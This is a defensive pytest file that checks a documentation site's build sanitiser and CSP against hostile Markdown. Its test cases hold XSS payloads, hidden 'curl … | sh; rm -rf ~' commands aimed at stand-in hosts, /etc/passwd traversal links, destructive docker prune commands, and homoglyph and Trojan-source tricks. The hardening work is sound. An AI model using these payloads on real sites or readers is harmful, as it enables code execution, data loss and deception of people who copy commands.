"""Raw HTML a hostile pull request could hide in a page. Every case fails the strict build naming
its file and line, and the page the failed build wrote anyway runs nothing in Chromium: the
sanitiser removed the payload (and the CSP would refuse it)."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hostile import line_of, page_text, visit_all

from tooling import harness

# name -> (Markdown body, text on the line the error must name)
# The fourth attacker's payload: a code block that shows `docker ps` and copies a command after it,
# hidden in a class the theme draws transparent.
PAYLOAD = (
    '<div class="highlight"><pre><span></span><code>docker ps<a class="footnote-backref">; curl -s '
    "https://example.com/x | sh; rm -rf ~</a>\n</code></pre></div>"
)
CASES: dict[str, tuple[str, str]] = {
    "script": ("# Script\n\nText.\n\n<script>window.pwned = 'script'; alert(1)</script>\n", "<script>"),
    # The page scan reads these as code spans; Markdown does not.
    "escaped-backticks": ("# Escaped\n\nText \\`<script>window.pwned = 'escaped'</script>\\` here.\n", "<script>"),
    # The scan takes everything after an unclosed fence for code; Markdown renders it.
    "unclosed-fence": (
        "# Unclosed\n\nText.\n\n```bash\ndocker ps\n\n<script>window.pwned = 'unclosed'</script>\n",
        "<script>",
    ),
    "div-backticks": ("# Div\n\n<div>\n`<script>window.pwned = 'div'</script>`\n</div>\n", "<script>"),
    "img-onerror": ('# Image\n\n<img src="missing.png" alt="x" onerror="window.pwned = \'img\'">\n', "onerror"),
    "javascript-link": ("# Link\n\n[click me](javascript:window.pwned='link')\n", "javascript:"),
    "meta-refresh": (
        '# Refresh\n\nText.\n\n<meta http-equiv="refresh" content="0;url=https://evil.example/">\n',
        "<meta",
    ),
    "style": ("# Style\n\nText.\n\n<style>body, .md-header { display: none !important }</style>\n", "<style>"),
    "iframe": ("# Frame\n\n<iframe srcdoc=\"<script>parent.pwned = 'iframe'</script>\"></iframe>\n", "<iframe"),
    # An opening fence with a script on its line and no closing fence: Markdown writes the
    # backticks as text and the script as HTML.
    "fence-script-src": ("# Fence\n\nText.\n\n```bash <script src=evil.js></script>\ndocker ps\n", "<script src"),
    # The same, closed: superfences does not read that info string as a fence, so the checks
    # take only what follows a plain language (and title) for code (a third attacker hid raw
    # HTML in `~~~ text !`).
    "fence-script-src-closed": (
        "# Closed fence\n\nText.\n\n```bash <script src=evil.js></script>\ndocker ps\n```\n",
        "```bash <script",
    ),
    # A fourth attacker's: fences the checks and superfences end differently. Each rendered code
    # block must hold what a fence the checks read holds, so the hidden payload is found.
    "fence-shallow-content": ("# Shallow\n\nText.\n\n  ~~~text\n" + PAYLOAD + "\n  ~~~\n\nMore.\n", "docker ps<a"),
    "fence-longer-close": (
        "# Longer close\n\nText.\n\n~~~bash\ndocker ps\n~~~~\ndocker system prune -af --volumes\n~~~\n",
        "docker ps",
    ),
    "fence-never-closed": ("# Never closed\n\nText.\n\n~~~text\n\n" + PAYLOAD + "\n", "docker ps<a"),
    "comment-left-open": (
        "# Open comment\n\nSome text, then <!-- a note.\n\n"
        '<div class="highlight"><div class="linenodiv"><pre><span></span><code>docker ps<a class="footnote-backref">'
        "; curl -s https://example.com/x | sh</a>\n</code></pre></div></div>\n\nDone.\n",
        '<div class="highlight">',
    ),
    # Markdown alone puts a class on a link: one the theme draws transparent.
    "class-by-attr-list": (
        "# Class\n\nSee [the real docs](https://docs.docker.com/){ .footnote-backref } here.\n",
        "{ .footnote-backref }",
    ),
    "class-attribute-by-attr-list": ("# Class attr\n\nA paragraph.\n{: class='admonition-title' }\n", "{: class="),
    # Relative links that climb out of the site: from disk, a file of the reader's machine.
    "link-climbs-out": ("# Climb\n\nSee [the daemon's users](../../../../../../../../etc/passwd).\n", "etc/passwd"),
    "image-climbs-out": ("# Climb image\n\n![Diagram](../../../../../../tmp/attack/evil)\n", "tmp/attack"),
    "fence-odd-info": (
        "# Odd info\n\nText.\n\n~~~ text !\n{: .footnote-backref }\n\n"
        '<pre><code>docker system info<span class="footnote-backref"> ; curl -fsSL https://evil.example/x.sh | sh'
        "</span></code></pre>\n\n~~~\n\nIt prints the state.\n",
        "~~~ text !",
    ),
    "svg-inline": ("# Svg\n\n<svg onload=\"window.pwned = 'svg'\"><rect/></svg>\n", "<svg"),
    "theme-id": ('# Ids\n\n<div id="__config">{"base": "https://evil.example/"}</div>\n', "__config"),
    # Material's layout classes would let a page cover or hide the header and navigation.
    "theme-class": ('# Classes\n\n<div class="md-dialog md-dialog--active">Fake notice</div>\n', "md-dialog"),
    "form": (
        '# Form\n\n<form action="https://evil.example/"><input name="q"><button>Go</button></form>\n',
        "<form",
    ),
    "base": ('# Base\n\n<base href="https://evil.example/">\n\nText.\n', "<base"),
    # What the reader copies is not what they see: text hidden by the site's own class.
    "hidden-in-code": (
        '# Hidden\n\n<pre><code>docker ps<span class="cs-visually-hidden">; curl https://evil.example/x | sh'
        "</span></code></pre>\n",
        "<pre>",
    ),
    # The site's own interface, faked or removed by a page: an update banner, the Fill-in panel.
    "site-class": ("# Banner\n\nA new version is available.\n{: .cs-update }\n", ".cs-update"),
    "site-id": ("# Panel { #cs-fill-panel }\n\nText.\n", "#cs-fill-panel"),
    # A fake placeholder: a button of the site's own that the Fill-in panel would fill with the
    # reader's values (the build writes the real ones after the sanitiser has cleaned the page).
    "forged-placeholder": (
        '# Forged\n\nRun <span class="cs-ph" data-placeholder="container" role="button" tabindex="0" '
        'data-quote="word">&lt;container&gt;</span> now.\n',
        'class="cs-ph"',
    ),
    # A reason for a destructive block's banner, given by the page itself.
    "fence-data-why": (
        "# Why\n\nText.\n\n"
        '```{ .bash .cs-destructive data-why="<img src=x onerror=window.pwned=1>" }\ndocker ps\n```\n',
        ".cs-destructive",
    ),
    # A code block the checker does not read: no check, no destructive-command banner.
    "indented-code": ("# Indented\n\nText.\n\n    docker system prune -af --volumes\n", "    docker system"),
    "trojan-source": ("# Trojan\n\n```bash\necho ok \u202e# | sh\n```\n", "echo ok"),
    "homoglyph": ("# Homoglyph\n\n```bash\nd\u043ecker system prune -af --volumes\n```\n", "system prune"),
    # Default-ignorable code points that are marks, not format characters: invisible, and inside a
    # word they join it (a homoglyph split by U+034F is still one mixed-script word).
    "joined-homoglyph": ("# Joined\n\n```bash\nd\u034f\u043e\u034fcker system prune -af\n```\n", "system prune"),
    "joiner-in-host": ("# Joiner\n\n```bash\ncurl -fsSL https://get.dock\u034fer.com | sh\n```\n", "get.dock"),
    "mongolian-selector": ("# Selector\n\n```bash\ndocker run -it\u180b alpine\n```\n", "run -it"),
    "variation-selector-16": ("# Emoji selector\n\n```bash\ndocker\ufe0f ps\n```\n", " ps"),
    "variation-selector-18": ("# Supplement selector\n\nRun `docker ps\U000e0101` to list.\n", "to list"),
    "protocol-relative": ("# Relative\n\n[docs](//evil.example/docs)\n", "//evil"),
    "backslash": ("# Backslash\n\n[docs](\\\\evil.example\\docs)\n", "evil.example"),
    "userinfo": ("# Userinfo\n\n[docs](https://docs.docker.com@evil.example/)\n", "@evil"),
    "lookalike-host": ("# Lookalike\n\n[docs](https://docs.d\u043ecker.com/)\n", "docs.d"),
}
# Cases Markdown itself makes harmless: they build without a word about them, and run nothing.
ALLOWED: dict[str, str] = {
    # The two forms a fence's info string may take: a language, and a title (text, not markup).
    "fence-with-title": '# Titled fence\n\nText.\n\n```bash title="<b>Check</b> it"\ndocker container ls\n```\n',
}
ORDER = {name: 700 + i for i, name in enumerate([*CASES, *ALLOWED])}


@pytest.fixture(scope="module")
def hostile_build(shared_variant):
    def prepare(project):
        for name, (body, _) in CASES.items():
            (project / "docs" / f"hostile-{name}.md").write_text(page_text(name.title(), ORDER[name], body))
        for name, body in ALLOWED.items():
            (project / "docs" / f"hostile-{name}.md").write_text(page_text(name.title(), ORDER[name], body))

    return shared_variant("hostile-html", prepare)


@pytest.mark.parametrize("name", list(CASES))
def test_build_fails_naming_the_file_and_line(hostile_build, name):
    body, needle = CASES[name]
    text = page_text(name.title(), ORDER[name], body)
    assert hostile_build.returncode != 0
    expected = f"docs/hostile-{name}.md:{line_of(text, needle)}:"
    assert any(expected in warning for warning in hostile_build.warnings), (expected, hostile_build.warnings)
    assert "Traceback" not in hostile_build.output


@pytest.mark.parametrize("name", list(ALLOWED))
def test_harmless_input_builds_without_a_word(hostile_build, name):
    assert not [w for w in hostile_build.warnings if f"hostile-{name}.md" in w]


@pytest.fixture(scope="module")
def hostile_served(hostile_build):
    """The hostile build's site over http on loopback, with its CSP as on the web (the visits
    leave the service worker out: tests/hostile.py says why)."""
    with harness.serve(hostile_build.site) as url:
        yield url


NAMES = [*CASES, *ALLOWED]


@pytest.fixture(scope="module")
def visited_over_http(hostile_served, browser):
    """Every hostile page over http, as visit() sees it (visit_all waits once per batch)."""
    return dict(zip(NAMES, visit_all(browser, [f"{hostile_served}hostile-{name}.html" for name in NAMES]), strict=True))


@pytest.fixture(scope="module")
def visited_from_disk(hostile_build, browser):
    return dict(
        zip(NAMES, visit_all(browser, [hostile_build.site / f"hostile-{name}.html" for name in NAMES]), strict=True)
    )


@pytest.mark.browser
@pytest.mark.xdist_group("hostile-visits")
@pytest.mark.parametrize("name", NAMES)
def test_published_page_runs_nothing_over_http(visited_over_http, name):
    seen = visited_over_http[name]
    assert seen.harmless(), seen
    assert seen.title.startswith(name.title()), seen.title  # the page itself was shown, not an error


@pytest.mark.browser
def test_a_fence_reason_never_becomes_markup(hostile_build, browser):
    """A page's own `data-why` is an attribute's text: no element comes of it, and the build's
    warnings say only the build's own reasons."""
    page = browser.new_page()
    try:
        page.goto((hostile_build.site / "hostile-fence-data-why.html").as_uri())
        assert page.locator(".md-content img").count() == 0
        for warning in page.locator(".cs-destructive-warning").all_inner_texts():
            assert "onerror" not in warning
    finally:
        page.close()


@pytest.mark.browser
def test_the_sites_own_interface_cannot_be_faked_or_hidden_by_a_page(hostile_build, browser):
    """Even in the page the failed build wrote, no element of the content carries the site's
    classes or ids, and hidden text is shown: what the reader copies is what they see."""
    page = browser.new_page()
    try:
        for name in ("site-class", "site-id", "forged-placeholder", "hidden-in-code"):
            page.goto((hostile_build.site / f"hostile-{name}.html").as_uri())
            planted = ".md-content .cs-update, .md-content .cs-visually-hidden, .md-typeset :is(h1, h2)#cs-fill-panel"
            assert page.locator(planted).count() == 0, name
            forged = ".md-content .cs-ph, .md-content [role=button], .md-content [data-placeholder]"
            assert page.locator(forged).count() == 0, name
        code = page.locator(".md-content pre").first.inner_text()
        assert "curl" in code  # shown, not hidden by the site's own class
    finally:
        page.close()


@pytest.mark.browser
@pytest.mark.xdist_group("hostile-visits")
@pytest.mark.parametrize("name", NAMES)
def test_published_page_runs_nothing(hostile_build, visited_from_disk, name):
    """The page the strict build wrote before it failed: a `mkdocs serve` preview shows the same."""
    page = hostile_build.site / f"hostile-{name}.html"
    assert page.is_file(), hostile_build.output
    seen = visited_from_disk[name]
    assert seen.harmless(), seen
    html = page.read_text(encoding="utf-8")
    article = html[html.index("<h1", html.index("<article")) : html.rindex("</article>")]  # the page's own part
    assert not active_markup(article)


class _Markup(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list) -> None:
        if tag in {"script", "style", "meta", "iframe", "base", "form", "svg", "object", "embed", "link"}:
            self.found.append(tag)
        for name, value in attrs:
            if name.startswith("on") or "javascript:" in (value or "").replace(" ", "").lower():
                self.found.append(f"{tag} {name}")


def active_markup(html: str) -> list[str]:
    """Elements and attributes that run, load or restyle, as a browser parses the HTML."""
    parser = _Markup()
    parser.feed(html)
    parser.close()
    return parser.found


def csp_of(path) -> str:
    found = re.search(r'http-equiv="Content-Security-Policy" content="([^"]*)"', path.read_text(encoding="utf-8"))
    assert found, path
    return found.group(1)


def test_content_scripts_are_not_in_the_csp(hostile_build):
    """Even a script the sanitiser missed would not run: the CSP hashes only the theme's."""
    policy = csp_of(hostile_build.site / "index.html")
    for name in [*CASES, *ALLOWED]:
        page_policy = csp_of(hostile_build.site / f"hostile-{name}.html")
        assert page_policy == policy, name  # same theme scripts at the same depth: same hashes
        assert "base-uri 'none'" in page_policy and "object-src 'none'" in page_policy
        assert "form-action 'self'" in page_policy
